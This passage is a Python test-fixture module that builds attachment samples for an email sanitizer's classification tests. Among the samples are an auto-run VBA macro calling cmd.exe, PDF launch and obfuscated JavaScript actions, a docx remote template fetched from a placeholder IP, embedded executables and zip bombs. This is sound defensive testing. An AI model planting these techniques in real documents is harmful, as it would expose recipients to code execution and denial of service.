"""Attachment corpus, built in code: every sample the sanitizer must classify.

The unit tests (tests/test_classify*.py) and the end-to-end mail tests reuse these builders, so no
binary fixtures live in the repository and every sample is small and deterministic. Formats are
written by hand where no library writes them (OLE compound files with a real VBA project,
ZipCrypto "PPAP" zips, flag-less CP932 zip names, overlapping-entry zip bombs, PE/ELF headers):
minimal but valid enough for libmagic, olefile/oletools and zipfile.

`SAMPLES` lists (filename, bytes, declared type, expected category, expected verdict) under the
default profile; `sample(key)` returns one.
"""

from __future__ import annotations

import binascii
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field

# -- OLE / Compound File Binary (MS-CFB v3) ----------------------------------------------------

_FREE, _END, _FATSECT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
_NOSTREAM = 0xFFFFFFFF
MSI_CLSID = bytes.fromhex("8410 0c00 0000 0000 c000 0000 0000 0046".replace(" ", ""))


@dataclass
class _Node:
    name: str
    kind: int  # 1 storage, 2 stream, 5 root
    data: bytes = b""
    children: list[_Node] = field(default_factory=list)
    clsid: bytes = b"\0" * 16
    sid: int = 0
    start: int = _END
    left: int = _NOSTREAM
    right: int = _NOSTREAM
    child: int = _NOSTREAM


def _cfb_key(n: _Node) -> tuple[int, str]:
    return (len(n.name), n.name.upper())  # MS-CFB sibling order


def cfb(streams: Mapping[str, bytes], root_clsid: bytes = b"\0" * 16) -> bytes:
    """A compound file holding `streams` ("Storage/Sub/Stream" paths; storages are implied).

    Streams under 4096 bytes go to the mini stream, as the format requires (olefile reads them
    from there). Sibling trees are balanced binary trees, all black (readers ignore colours).
    """
    root = _Node("Root Entry", 5, clsid=root_clsid)
    for path, data in streams.items():
        node = root
        parts = path.split("/")
        for i, part in enumerate(parts):
            found = next((c for c in node.children if c.name == part), None)
            if found is None:
                found = _Node(part, 2 if i == len(parts) - 1 else 1, data if i == len(parts) - 1 else b"")
                node.children.append(found)
            node = found
    nodes: list[_Node] = []

    def number(n: _Node) -> None:
        n.sid = len(nodes)
        nodes.append(n)
        for c in n.children:
            number(c)

    number(root)

    def tree(items: list[_Node]) -> int:
        if not items:
            return _NOSTREAM
        mid = len(items) // 2
        top = items[mid]
        top.left = tree(items[:mid])
        top.right = tree(items[mid + 1 :])
        return top.sid

    for n in nodes:
        if n.children:
            n.child = tree(sorted(n.children, key=_cfb_key))

    sectors: list[bytes] = []
    fat: dict[int, int] = {}

    def alloc(data: bytes, size: int) -> int:
        count = max(1, -(-len(data) // size)) if data else 0
        if count == 0:
            return _END
        first = len(sectors)
        for i in range(count):
            sectors.append(data[i * size : (i + 1) * size].ljust(size, b"\0"))
            fat[first + i] = first + i + 1 if i < count - 1 else _END
        return first

    mini = bytearray()
    minifat: list[int] = []
    for n in nodes:
        if n.kind != 2 or not n.data:
            continue
        if len(n.data) >= 4096:
            n.start = alloc(n.data, 512)
        else:
            n.start = len(mini) // 64
            count = -(-len(n.data) // 64)
            mini += n.data.ljust(count * 64, b"\0")
            minifat += [n.start + i + 1 if i < count - 1 else _END for i in range(count)]
    root.start = alloc(bytes(mini), 512) if mini else _END
    root.data = bytes(mini)
    minifat_bytes = b"".join(struct.pack("<I", v) for v in minifat)
    minifat_start = alloc(minifat_bytes, 512) if minifat else _END
    n_minifat = -(-len(minifat_bytes) // 512)

    def entry(n: _Node) -> bytes:
        name = n.name.encode("utf-16-le") + b"\0\0"
        size = len(n.data) if n.kind in (2, 5) else 0
        start = n.start if n.kind in (2, 5) else 0
        return (
            name.ljust(64, b"\0")
            + struct.pack("<HBB3I", len(name), n.kind, 1, n.left, n.right, n.child)
            + n.clsid
            + b"\0" * 4
            + b"\0" * 16
            + struct.pack("<IQ", start, size)
        )

    directory = b"".join(entry(n) for n in nodes)
    dir_start = alloc(directory, 512)
    n_fat = 1
    while len(sectors) + n_fat > n_fat * 128:
        n_fat += 1
    fat_first = len(sectors)
    for i in range(n_fat):
        fat[fat_first + i] = _FATSECT
    table = [fat.get(i, _FREE) for i in range(n_fat * 128)]
    fat_bytes = b"".join(struct.pack("<I", v) for v in table)
    sectors += [fat_bytes[i * 512 : (i + 1) * 512] for i in range(n_fat)]
    difat = [fat_first + i for i in range(n_fat)] + [_FREE] * (109 - n_fat)
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, n_fat, dir_start, 0, 4096, minifat_start, n_minifat, _END, 0)
        + b"".join(struct.pack("<I", v) for v in difat)
    )
    assert len(header) == 512
    return header + b"".join(sectors)


# -- VBA projects (MS-OVBA) --------------------------------------------------------------------


def ovba_compress(data: bytes) -> bytes:
    """MS-OVBA "compression" using literal tokens only: valid, and every reader decodes it."""
    out = bytearray(b"\x01")
    for start in range(0, len(data), 4096):
        chunk = data[start : start + 4096]
        body = bytearray()
        for i in range(0, len(chunk), 8):
            body += b"\x00" + chunk[i : i + 8]
        out += struct.pack("<H", (len(body) + 2 - 3) | 0xB000) + body  # size-3 | signature 0b011 | compressed
    return bytes(out)


def _rec(rid: int, data: bytes) -> bytes:
    return struct.pack("<HI", rid, len(data)) + data


MACRO_CODE = 'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n    Shell "cmd.exe /c calc.exe"\r\nEnd Sub\r\n'


def vba_streams(code: str = MACRO_CODE, prefix: str = "") -> dict[str, bytes]:
    """The streams of a VBA project with one standard module (under storage `prefix`)."""
    name = b"Module1"
    dir_stream = (
        _rec(0x01, struct.pack("<I", 1))  # PROJECTSYSKIND win32
        + _rec(0x02, struct.pack("<I", 0x409))
        + _rec(0x14, struct.pack("<I", 0x409))
        + _rec(0x03, struct.pack("<H", 1252))
        + _rec(0x04, b"VBAProject")
        + _rec(0x05, b"")
        + _rec(0x40, b"")  # docstring + unicode
        + _rec(0x06, b"")
        + _rec(0x3D, b"")  # helpfile 1 + 2
        + _rec(0x07, struct.pack("<I", 0))
        + _rec(0x08, struct.pack("<I", 0))
        + struct.pack("<HIIH", 0x09, 4, 1, 0)  # PROJECTVERSION: reserved=4, major, minor
        + _rec(0x0C, b"")
        + _rec(0x3C, b"")  # constants + unicode
        + struct.pack("<HIH", 0x0F, 2, 1)  # PROJECTMODULES: one module
        + struct.pack("<HIH", 0x13, 2, 0xFFFF)  # cookie
        + _rec(0x19, name)
        + _rec(0x47, name.decode().encode("utf-16-le"))
        + _rec(0x1A, name)
        + _rec(0x32, name.decode().encode("utf-16-le"))
        + _rec(0x1C, b"")
        + _rec(0x48, b"")
        + _rec(0x31, struct.pack("<I", 0))  # MODULEOFFSET: source starts at 0
        + _rec(0x1E, struct.pack("<I", 0))
        + struct.pack("<HIH", 0x2C, 2, 0xFFFF)
        + struct.pack("<HI", 0x21, 0)  # procedural module
        + struct.pack("<HI", 0x2B, 0)  # module terminator
        + struct.pack("<HI", 0x10, 0)  # dir terminator
    )
    project = (
        b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\nName="VBAProject"\r\n'
        b'HelpContextID="0"\r\nVersionCompatible32="393222000"\r\nCMG=""\r\nDPB=""\r\nGC=""\r\n'
    )
    p = prefix + "/" if prefix else ""
    return {
        p + "PROJECT": project,
        p + "PROJECTwm": b"Module1\0M\0o\0d\0u\0l\0e\x001\0\0\0\0\0",
        p + "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        p + "VBA/dir": ovba_compress(dir_stream),
        p + "VBA/Module1": ovba_compress(code.encode("cp1252")),
    }


def vba_project_bin(code: str = MACRO_CODE) -> bytes:
    return cfb(vba_streams(code))


def _word_fib(encrypted: bool = False) -> bytes:
    fib = bytearray(1472)
    struct.pack_into("<HH", fib, 0, 0xA5EC, 0x00C1)  # wIdent, nFib (Word 97)
    flags = 0x0200 | (0x0100 if encrypted else 0)  # fWhichTblStm=1 (1Table), fEncrypted
    struct.pack_into("<H", fib, 10, flags)
    return bytes(fib)


def doc(macros: bool = False, encrypted: bool = False) -> bytes:
    """Word 97-2003 document; with `macros` its VBA project sits under Macros/ as Word writes it."""
    streams = {"WordDocument": _word_fib(encrypted) + b"Hello".ljust(4096, b"\0"), "1Table": b"\0" * 512}
    if macros:
        streams.update(vba_streams(prefix="Macros"))
    return cfb(streams, root_clsid=bytes.fromhex("0609020000000000c000000000000046"))


def xls_with_xlm() -> bytes:
    """BIFF8 workbook with an Excel 4.0 macro sheet (BOUNDSHEET with sheet type 1)."""

    def rec(t: int, body: bytes) -> bytes:
        return struct.pack("<HH", t, len(body)) + body

    bof = rec(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x0206))
    sheet = rec(0x0085, struct.pack("<IBB", 0, 0, 1) + b"\x06\x00Macro1")  # dt=1: macro sheet
    wb = bof + sheet + rec(0x000A, b"")
    return cfb({"Workbook": wb.ljust(4096, b"\0")}, root_clsid=bytes.fromhex("2008020000000000c000000000000046"))


def jtd(macros: bool = False) -> bytes:
    """一太郎 document (OLE). Real ones hold DocumentText etc.; with `macros`, a VBA storage."""
    streams = {"DocumentText": "一太郎の文書".encode("utf-16-le"), "DocInfo": b"\0" * 64}
    if macros:
        streams.update(vba_streams(prefix="Macros"))
    return cfb(streams)


def encrypted_ooxml() -> bytes:
    """An Office 2007+ document saved with a password: OLE holding EncryptionInfo/EncryptedPackage."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'  # agile
    return cfb(
        {
            "EncryptionInfo": info,
            "EncryptedPackage": struct.pack("<Q", 10000) + bytes(range(256)) * 40,
            "\x06DataSpaces/Version": b"\0" * 76,
            "\x06DataSpaces/DataSpaceMap": b"\0" * 64,
        }
    )


def msi() -> bytes:
    return cfb({"\u4840\u3b3f\u43f2\u4438\u45b1": b"\0" * 128, "\x05SummaryInformation": b"\0" * 128}, MSI_CLSID)


def ole_package(payload: bytes, filename: str = "setup.exe") -> bytes:
    """An OLE object holding an embedded file (Ole10Native "Package"), as Office embeds it."""
    fn = filename.encode() + b"\0"
    body = (
        struct.pack("<H", 2)
        + fn
        + fn
        + struct.pack("<HH", 0, 3)
        + struct.pack("<I", len(fn))
        + fn
        + struct.pack("<I", len(payload))
        + payload
    )
    return cfb({"\x01Ole10Native": struct.pack("<I", len(body)) + body, "\x01CompObj": b"\0" * 64})


# -- ZIP written by hand (flags, raw names, ZipCrypto, overlaps) -------------------------------


@dataclass
class ZipEntry:
    name: bytes
    data: bytes
    method: int = 8  # 0 stored, 8 deflate
    flags: int = 0
    extra: bytes = b""
    password: bytes | None = None  # ZipCrypto ("PPAP")
    aes: bool = False  # WinZip AES header (method 99, extra 0x9901); payload left as is


def _crc_table() -> list[int]:
    table = []
    for n in range(256):
        c = n
        for _ in range(8):
            c = 0xEDB88320 ^ (c >> 1) if c & 1 else c >> 1
        table.append(c)
    return table


_CRC = _crc_table()


class _ZipCrypto:
    def __init__(self, password: bytes) -> None:
        self.k = [0x12345678, 0x23456789, 0x34567890]
        for b in password:
            self._update(b)

    def _update(self, b: int) -> None:
        k = self.k
        k[0] = (k[0] >> 8) ^ _CRC[(k[0] ^ b) & 0xFF]
        k[1] = ((k[1] + (k[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        k[2] = (k[2] >> 8) ^ _CRC[(k[2] ^ (k[1] >> 24)) & 0xFF]

    def encrypt(self, data: bytes) -> bytes:
        out = bytearray()
        for b in data:
            t = (self.k[2] | 2) & 0xFFFF
            out.append(b ^ (((t * (t ^ 1)) >> 8) & 0xFF))
            self._update(b)
        return bytes(out)


def raw_zip(entries: Sequence[ZipEntry], *, overlap: int = 0) -> bytes:
    """A zip archive exactly as described. With `overlap` > 0, that many extra central
    directory entries all point at the first local file (the overlapping-entry zip bomb)."""
    out = bytearray()
    central = bytearray()
    records: list[tuple[ZipEntry, int, int, int, int]] = []
    for e in entries:
        crc = zlib.crc32(e.data)
        payload = e.data
        if e.method == 8:
            c = zlib.compressobj(9, zlib.DEFLATED, -15)
            payload = c.compress(e.data) + c.flush()
        method, flags, extra = e.method, e.flags, e.extra
        if e.password is not None:
            flags |= 1
            header = bytes(range(11)) + bytes(((crc >> 24) & 0xFF,))
            payload = _ZipCrypto(e.password).encrypt(header + payload)
        if e.aes:
            flags |= 1
            extra += struct.pack("<HHHH2sBH", 0x9901, 7, 2, 0x4541, b"AE", 3, method)
            method = 99
            payload = b"\0" * 16 + payload + b"\0" * 10  # salt/verifier/mac placeholders
        offset = len(out)
        local = struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            20,
            flags,
            method,
            0,
            0x21,
            crc,
            len(payload),
            len(e.data),
            len(e.name),
            len(extra),
        )
        out += local + e.name + extra + payload
        records.append((e, offset, crc, len(payload), method))
        central += (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                0x031E,
                20,
                flags,
                method,
                0,
                0x21,
                crc,
                len(payload),
                len(e.data),
                len(e.name),
                len(extra),
                0,
                0,
                0,
                0o100644 << 16,
                offset,
            )
            + e.name
            + extra
        )
    for i in range(overlap):
        e, offset, crc, csize, method = records[0]
        name = b"%d" % i
        central += (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                0x031E,
                20,
                e.flags,
                method,
                0,
                0x21,
                crc,
                csize,
                len(e.data),
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + name
        )
    n = len(entries) + overlap
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(central), cd_offset, 0)
    return bytes(out)


def zip_of(members: Mapping[str, bytes], compress: bool = True) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def aes_zip(members: Mapping[str, bytes], password: bytes = b"secret") -> bytes:
    """WinZip AES zip through pyzipper when installed, else hand-written AES headers."""
    try:
        import pyzipper  # type: ignore[import-untyped]
    except ImportError:
        return raw_zip([ZipEntry(n.encode(), d, aes=True) for n, d in members.items()])
    buf = io.BytesIO()
    with pyzipper.AESZipFile(buf, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as z:
        z.setpassword(password)
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def ppap_zip(members: Mapping[str, bytes] | None = None, password: bytes = b"Pass1234") -> bytes:
    """ZipCrypto-encrypted zip, the "PPAP" practice (password sent in a second mail)."""
    members = members or {"見積書.pdf": clean_pdf()}
    return raw_zip([ZipEntry(n.encode("utf-8"), d, flags=0x800, password=password) for n, d in members.items()])


def zip_cp932(members: Mapping[str, bytes]) -> bytes:
    """Names in raw CP932 without the UTF-8 flag: what Windows Explorer's "送る→圧縮" writes."""
    return raw_zip([ZipEntry(n.encode("cp932"), d) for n, d in members.items()])


def zip_utf8(members: Mapping[str, bytes]) -> bytes:
    return raw_zip([ZipEntry(n.encode("utf-8"), d, flags=0x800) for n, d in members.items()])


def nested_zip(depth: int, inner: bytes | None = None, inner_name: str = "readme.txt") -> bytes:
    data, name = inner if inner is not None else b"hello\n", inner_name
    for i in range(depth):
        data, name = zip_of({name: data}), f"layer{depth - i}.zip"
    return data


def ratio_bomb(size: int = 16 << 20) -> bytes:
    """One member of `size` zero bytes (ratio about 1000:1)."""
    return raw_zip([ZipEntry(b"zeros.txt", b"\0" * size)])


def overlap_bomb(copies: int = 50, size: int = 1 << 20) -> bytes:
    return raw_zip([ZipEntry(b"a.txt", b"A" * size)], overlap=copies)


# -- OOXML / ODF --------------------------------------------------------------------------------

_CT_DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_CT_DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"


def _content_types(main: str, part: str, extra: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{main}"/>{extra}</Types>'
    ).encode()


_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'officeDocument" Target="%s"/></Relationships>'
)


def docx(extra: Mapping[str, bytes] | None = None, macro: bool = False) -> bytes:
    members: dict[str, bytes] = {
        "[Content_Types].xml": _content_types(
            _CT_DOCM if macro else _CT_DOCX,
            "word/document.xml",
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macro else "",
        ),
        "_rels/.rels": _RELS % b"word/document.xml",
        "word/document.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.'
            'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>住民票の写し</w:t></w:r>'
            "</w:p></w:body></w:document>"
        ).encode(),
    }
    if macro:
        members["word/vbaProject.bin"] = vba_project_bin()
    members.update(extra or {})
    return zip_of(members)


def docm() -> bytes:
    return docx(macro=True)


def docx_remote_template() -> bytes:
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://198.51.100.7/t.dotm" TargetMode="External"/></Relationships>'
    )
    return docx({"word/_rels/settings.xml.rels": rels, "word/settings.xml": b"<w:settings/>"})


def docx_with_package(payload: bytes) -> bytes:
    """A docx whose embedded OLE object carries a file (drag-and-drop of an exe into Word)."""
    return docx({"word/embeddings/oleObject1.bin": ole_package(payload)})


def xlsx(macrosheet: bool = False) -> bytes:
    ct = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    members = {
        "[Content_Types].xml": _content_types(ct, "xl/workbook.xml"),
        "_rels/.rels": _RELS % b"xl/workbook.xml",
        "xl/workbook.xml": b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>',
        "xl/worksheets/sheet1.xml": b'<?xml version="1.0"?><worksheet/>',
    }
    if macrosheet:
        members["xl/macrosheets/sheet2.xml"] = b'<?xml version="1.0"?><xm:macrosheet/>'
    return zip_of(members)


def odt(basic_macro: bool = False) -> bytes:
    members = {
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": b'<?xml version="1.0"?><office:document-content/>',
        "META-INF/manifest.xml": b'<?xml version="1.0"?><manifest:manifest/>',
    }
    if basic_macro:
        members["Basic/Standard/Module1.xml"] = b'<?xml version="1.0"?><script:module>Sub Main</script:module>'
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members.items():
            z.writestr(name, data, zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def jar() -> bytes:
    cls = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 64
    return zip_of({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nMain-Class: A\r\n\r\n", "A.class": cls})


# -- executables, images, disk images, misc binaries -------------------------------------------


def pe_exe(dll: bool = False) -> bytes:
    """A minimal PE32 (i386, GUI): MZ stub, PE header, optional header, one section."""
    mz = bytearray(0x80)
    mz[0:2] = b"MZ"
    struct.pack_into("<H", mz, 2, 0x90)
    struct.pack_into("<I", mz, 0x3C, 0x80)
    coff = struct.pack("<HHIIIHH", 0x14C, 1, 0x5F000000, 0, 0, 0xE0, 0x2102 if dll else 0x0102)
    opt = bytearray(0xE0)
    struct.pack_into("<HBBIIIIII", opt, 0, 0x10B, 14, 0, 0x200, 0, 0, 0x1000, 0x1000, 0x2000)
    struct.pack_into("<III", opt, 28, 0x400000, 0x1000, 0x200)  # ImageBase, SectionAlign, FileAlign
    struct.pack_into("<HHHHHH", opt, 40, 6, 0, 0, 0, 6, 0)  # OS / image / subsystem versions
    struct.pack_into("<IIII", opt, 56, 0x2000, 0x200, 0, 2)  # SizeOfImage, SizeOfHeaders, CheckSum, Subsystem GUI
    struct.pack_into("<I", opt, 92, 16)  # NumberOfRvaAndSizes
    section = struct.pack("<8sIIIIIIHHI", b".text", 0x1000, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020)
    head = bytes(mz) + b"PE\0\0" + coff + bytes(opt) + section
    return head.ljust(0x200, b"\0") + b"\xc3".ljust(0x200, b"\0")


def elf() -> bytes:
    ident = b"\x7fELF\x02\x01\x01" + b"\0" * 9
    hdr = ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    ph = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 0x80, 0x80, 0x1000)
    return hdr + ph + b"\xc3" * 8


def macho() -> bytes:
    return struct.pack("<IiiIIII I", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0, 0) + b"\0" * 64


def lnk() -> bytes:
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    hdr = struct.pack("<I", 0x4C) + clsid + struct.pack("<II", 0x81, 0x20) + b"\0" * 24
    hdr += struct.pack("<IIIHH", 0, 0, 1, 0, 0) + b"\0" * 8
    return hdr + b"\0" * 64


def png(width: int = 1, height: int = 1) -> bytes:
    def chunk(t: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + t + data + struct.pack(">I", zlib.crc32(t + data))

    raw = b"".join(b"\0" + b"\xff\x00\x00" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def jpeg() -> bytes:
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
    return b"\xff\xd8" + app0 + b"\xff\xdb\x00\x43\x00" + bytes(range(1, 65)) + b"\xff\xd9"


def gif() -> bytes:
    return (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00"
        b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    )


def iso() -> bytes:
    pvd = b"\x01CD001\x01\x00" + b"LINUX".ljust(32) + b"SETUP".ljust(32)
    return b"\0" * 0x8000 + pvd.ljust(2048, b"\0") + b"\xffCD001\x01".ljust(2048, b"\0")


def vhd() -> bytes:
    footer = b"conectix" + struct.pack(">II", 2, 0x10000) + b"\xff" * 8 + b"\0" * 4 + b"vpc "
    return footer.ljust(512, b"\0") + b"\0" * 1024 + footer.ljust(512, b"\0")


def vhdx() -> bytes:
    return b"vhdxfile" + "Microsoft Windows".encode("utf-16-le") + b"\0" * 4096


def onenote() -> bytes:
    return bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 1024


def seven_zip() -> bytes:
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<IQQI", 0, 0, 0, 0) + b"\0" * 32


def rar() -> bytes:
    return b"Rar!\x1a\x07\x01\x00" + b"\x33\x92\xb5\xe5\x0a\x01\x05\x06\x00\x05\x01\x01\x80\x80\x00" + b"\0" * 32


def lzh(name: bytes = b"setup.exe", data: bytes = b"MZ" + b"\0" * 62) -> bytes:
    """LHA level-0 header, method -lh0- (stored)."""
    body = b"-lh0-" + struct.pack("<IIIBB", len(data), len(data), 0, 0x20, 0) + bytes((len(name),)) + name
    body += struct.pack("<H", 0)  # crc16 (not checked by readers of the header)
    return bytes((len(body), sum(body) & 0xFF)) + body + data + b"\0"


def cab() -> bytes:
    return b"MSCF\0\0\0\0" + struct.pack("<IIIBBHHHHH", 0x60, 0, 0x2C, 0, 3, 1, 1, 0, 0, 0) + b"\0" * 64


def chm() -> bytes:
    return b"ITSF" + struct.pack("<III", 3, 0x60, 1) + b"\0" * 128


def gzip_of(data: bytes, name: str = "data.txt") -> bytes:
    buf = io.BytesIO()
    with gzip.GzipFile(filename=name, mode="wb", fileobj=buf, mtime=0) as g:
        g.write(data)
    return buf.getvalue()


def tar_of(members: Mapping[str, bytes], compression: str = "") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=f"w:{compression}" if compression else "w", format=tarfile.PAX_FORMAT) as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def bzip2_of(data: bytes) -> bytes:
    return bz2.compress(data)


def xz_of(data: bytes) -> bytes:
    return lzma.compress(data)


# -- PDF ---------------------------------------------------------------------------------------


def pdf(objects: Sequence[bytes], trailer_extra: bytes = b"") -> bytes:
    """A PDF with a correct xref table; objects are numbered from 1, object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer_extra, xref)
    return bytes(out)


def _stream(dict_body: bytes, data: bytes) -> bytes:
    return b"<< " + dict_body + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


_PAGE_OBJS = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
    _stream(b"", b"BT /F1 12 Tf 72 720 Td (Hello) Tj ET"),
]


def clean_pdf(catalog_extra: bytes = b"") -> bytes:
    return pdf([b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>", *_PAGE_OBJS])


def pdf_with(catalog_extra: bytes, *more: bytes) -> bytes:
    return pdf([b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>", *_PAGE_OBJS, *more])


def pdf_javascript() -> bytes:
    return pdf_with(
        b"/Names << /JavaScript 5 0 R >>", b"<< /Names [(x) 6 0 R] >>", b"<< /S /JavaScript /JS (app.alert(1)) >>"
    )


def pdf_openaction_js() -> bytes:
    return pdf_with(b"/OpenAction 5 0 R", b"<< /S /JavaScript /JS (app.alert(1)) >>")


def pdf_openaction_dest() -> bytes:
    """LibreOffice writes /OpenAction [page /XYZ ...]: a destination, not an action."""
    return clean_pdf(b"/OpenAction [3 0 R /XYZ null null 0]")


def pdf_launch() -> bytes:
    return pdf_with(b"/OpenAction 5 0 R", b"<< /S /Launch /F (cmd.exe) /NewWindow true >>")


def pdf_aa() -> bytes:
    return pdf_with(b"/AA << /WC 5 0 R >>", b"<< /S /URI /URI (http://example.com/) >>")


def pdf_embedded_file(payload: bytes = b"MZ") -> bytes:
    return pdf_with(
        b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
        b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
        _stream(b"/Type /EmbeddedFile", payload),
    )


def pdf_richmedia() -> bytes:
    return pdf_with(b"", b"<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>")


def pdf_xfa() -> bytes:
    return pdf_with(b"/AcroForm << /Fields [] /XFA 5 0 R >>", _stream(b"", b"<xdp:xdp/>"))


def pdf_obfuscated_js() -> bytes:
    """/J#61vaScript and /J#53: name escapes, as in real maldocs."""
    return pdf_with(b"/OpenAction 5 0 R", b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>")


def pdf_objstm_js() -> bytes:
    """The JavaScript action hidden in a FlateDecode object stream (PDF 1.5)."""
    inner = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    header = b"5 0 "
    body = header + inner
    data = zlib.compress(body)
    objstm = _stream(b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header), data)
    return pdf_with(b"/OpenAction 5 0 R", objstm)


def pdf_objstm_clean() -> bytes:
    body = b"5 0 << /Producer (test) >>"
    return pdf_with(b"", _stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zlib.compress(body)))


def pdf_js_in_string_trap() -> bytes:
    """A string mentioning /JavaScript is not a name: clean."""
    return pdf_with(b"/Info 5 0 R", b"<< /Title (about /JavaScript and stream) >>")


def pdf_encrypted() -> bytes:
    enc = b"<< /Filter /Standard /V 2 /R 3 /Length 128 /O <00> /U <00> /P -3904 >>"
    return pdf_with(b"", enc)[:-1].replace(b"/Root 1 0 R ", b"/Root 1 0 R /Encrypt 5 0 R ") + b"\n"


# -- text formats ------------------------------------------------------------------------------

HTML = b"<!DOCTYPE html>\n<html><head><title>t</title></head><body><a href='http://x'>x</a></body></html>\n"
SVG_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script></svg>\n"
)
HTA = b'<html><head><HTA:APPLICATION ID="x"/><script language="VBScript">CreateObject("WScript.Shell")</script>'
